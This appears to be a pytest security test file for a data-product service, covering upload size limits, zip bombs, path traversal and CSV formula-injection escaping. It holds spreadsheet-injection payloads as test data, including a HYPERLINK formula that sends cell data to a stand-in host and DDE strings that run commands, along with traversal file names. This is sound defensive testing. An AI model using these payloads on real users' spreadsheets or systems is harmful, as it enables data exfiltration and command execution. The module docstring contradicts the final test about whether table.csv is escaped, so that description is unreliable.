"""Upload hardening beyond tests/api/test_uploads.py, and formula injection in CSV exports.

Decision (documented): the product's own ``data/table.csv`` (in the folder and the download zip)
is the exact data, byte for byte what the pipeline wrote — it is the product a buyer pays for
and must round-trip; the *web* CSV export (``rows?format=csv`` or ``Accept: text/csv``) is what a
user opens in a spreadsheet from the browser, so there every text cell that starts like a
formula (``= + - @``, tab, CR) is prefixed with ``'``.
"""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Iterator
from pathlib import Path

import polars as pl
import pytest
from sqlalchemy.orm import Session

from mfgdata.catalog import workflow
from mfgdata.catalog.register import register_product
from mfgdata.db.tables import Organisation
from security.world import CSV, SecWorld

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]
SAFE = ["plain", "1+1", "a=b", "한글=값"]
FORMULA_PRODUCT = "sec-formula"


def _zip(entries: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in entries.items():
            zf.writestr(name, data)
    return buf.getvalue()


def _uploads_on_disk(world: SecWorld) -> set[Path]:
    root = world.settings.home / "uploads"
    return {p for p in root.rglob("*") if p.is_file()} if root.exists() else set()


def test_a_streamed_multipart_over_the_limit_is_413_and_leaves_nothing(world: SecWorld) -> None:
    before = _uploads_on_disk(world)
    boundary = "XyZ"
    head = (
        f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="big.csv"\r\n'
        "Content-Type: text/csv\r\n\r\n"
    ).encode()

    def body() -> Iterator[bytes]:  # no Content-Length: only the streamed count can stop it
        yield head + b"a,b\n"
        for _ in range(40):
            yield b"1,2\n" * 2500
        yield f"\r\n--{boundary}--\r\n".encode()

    with world.client("owner") as client:
        resp = client.post(
            "/api/v1/uploads",
            content=body(),
            headers={"Content-Type": f"multipart/form-data; boundary={boundary}"},
        )
    assert resp.status_code == 413, resp.text
    assert resp.json()["error"]["code"] == "upload_too_large"
    assert _uploads_on_disk(world) == before


def test_a_declared_length_over_the_limit_is_refused_before_reading(world: SecWorld) -> None:
    with world.client("owner") as client:
        resp = client.post(
            "/api/v1/uploads?filename=x.csv",
            content=b"a,b\n1,2\n",
            headers={"Content-Length": str(10 * 1024**3)},
        )
    assert resp.status_code in (400, 413), resp.text


@pytest.mark.parametrize(
    "member",
    ["..\\..\\evil.csv", "a/../../evil.csv", "C:\\evil.csv", "C:/evil.csv", "../"],
)
def test_windows_and_hidden_traversal_in_archives_is_rejected(world: SecWorld, member: str) -> None:
    before = _uploads_on_disk(world)
    with world.client("owner") as client:
        resp = client.post("/api/v1/uploads", files={"file": ("x.zip", _zip({member: CSV}))})
    assert resp.status_code == 422, resp.text
    assert "traversal" in resp.json()["error"]["message_en"]
    assert _uploads_on_disk(world) == before
    assert not (world.settings.home / "evil.csv").exists()


@pytest.mark.parametrize("name", ["../../../evil.csv", "..\\..\\evil.csv", "/etc/evil.csv"])
def test_a_raw_upload_file_name_cannot_escape_the_upload_folder(world: SecWorld, name: str) -> None:
    with world.client("owner") as client:
        resp = client.post(
            "/api/v1/uploads",
            params={"filename": name},
            content=CSV,
            headers={"Content-Type": "application/octet-stream"},
        )
    assert resp.status_code == 201, resp.text
    assert resp.json()["filename"] == "evil.csv"
    root = (world.settings.home / "uploads").resolve()
    assert all(p.resolve().is_relative_to(root) for p in _uploads_on_disk(world))
    assert not (world.settings.home / "evil.csv").exists()


def test_a_zip_bomb_spread_over_entries_is_rejected(world: SecWorld) -> None:
    entries = {f"part{i}.csv": b"1" * (3 * 1024 * 1024) for i in range(4)}
    with world.client("owner") as client:
        resp = client.post("/api/v1/uploads", files={"file": ("b.zip", _zip(entries))})
    assert resp.status_code == 422 and "zip bomb" in resp.json()["error"]["message_en"]


def test_a_huge_prediction_body_is_refused(world: SecWorld) -> None:
    with world.client("owner") as client:
        resp = client.post(
            "/api/v1/products/sec-pub/versions/1/predict",
            content=b"[" + b"1," * (40 * 1024 * 1024) + b"1]",
            headers={"Content-Type": "application/json"},
        )
    assert resp.status_code in (413, 422), resp.status_code
    assert "Traceback" not in resp.text


# -- formula injection -------------------------------------------------------------------------
@pytest.fixture(scope="module")
def formula_product(world: SecWorld, tmp_path_factory: pytest.TempPathFactory) -> str:
    from mfgdata.flow import build
    from mfgdata.pipeline import BuildOptions
    from mfgdata.steps import ingest, package, preprocess, price, profile, quality

    base = tmp_path_factory.mktemp("formula")
    cells = (FORMULAS + SAFE) * 4
    frame = pl.DataFrame(
        {
            "일시": [f"2024-03-01 00:{i:02d}:00" for i in range(len(cells))],
            "메모": cells,
            "온도[℃]": [200.0 + i for i in range(len(cells))],
        }
    )
    source = base / "memo.csv"
    frame.write_csv(source)
    options = BuildOptions(
        inputs=(source,),
        out=base / "p",
        time_column="일시",
        product_id=FORMULA_PRODUCT,
        title="formula",
    )
    steps = [
        ingest.IngestStep(),
        profile.ProfileStep(),
        preprocess.PreprocessStep(),
        quality.QualityStep(),
        price.PriceStep(),
        package.PackageStep(),
    ]
    folder = build(options, steps=steps).out
    with Session(world.session().get_bind(), expire_on_commit=False) as s:
        org = s.get(Organisation, world.orgs["owner"])
        assert org is not None
        row = register_product(
            folder, session=s, owner_org=org, product_id=FORMULA_PRODUCT, settings=world.settings
        )
        workflow.verify(session=s, version=row, actor=None, settings=world.settings)
        workflow.publish(session=s, version=row, actor=None, settings=world.settings)
        s.commit()
    return FORMULA_PRODUCT


def _memo_column(text: str) -> list[str]:
    rows = list(csv.DictReader(io.StringIO(text)))
    return [r["메모"] for r in rows]


@pytest.mark.parametrize("how", ["format", "accept"])
def test_web_csv_export_escapes_formula_cells(
    world: SecWorld, formula_product: str, how: str
) -> None:
    url = f"/api/v1/products/{formula_product}/versions/1/rows?limit=1000"
    with world.client("owner") as client:
        if how == "format":
            resp = client.get(url + "&format=csv")
        else:
            resp = client.get(url, headers={"Accept": "text/csv"})
    assert resp.status_code == 200 and resp.headers["content-type"].startswith("text/csv")
    memo = _memo_column(resp.text)
    assert len(memo) == len((FORMULAS + SAFE) * 4)
    for cell in memo:
        assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), repr(cell)
    expected = {("'" + c if c in FORMULAS else c) for c in FORMULAS + SAFE}
    assert set(memo) == expected


def test_product_table_csv_escapes_formulas_and_parquet_keeps_them(
    world: SecWorld, formula_product: str
) -> None:
    """data/table.csv in the download escapes formula-like cells (issue 13: OWASP rule, raw with
    --raw-csv); data/table.parquet keeps every cell exactly as it was."""
    with world.client("owner") as client:
        resp = client.get(f"/api/v1/products/{formula_product}/versions/1/download")
    assert resp.status_code == 200
    with zipfile.ZipFile(io.BytesIO(resp.content)) as zf:
        name = next(n for n in zf.namelist() if n.endswith("data/table.csv"))
        text = zf.read(name).decode("utf-8-sig")
        parquet = next(n for n in zf.namelist() if n.endswith("data/table.parquet"))
        exact = pl.read_parquet(io.BytesIO(zf.read(parquet)))["메모"].to_list()
    assert set(_memo_column(text)) == {"'" + f for f in FORMULAS} | set(SAFE)
    assert set(exact) == set(FORMULAS + SAFE)
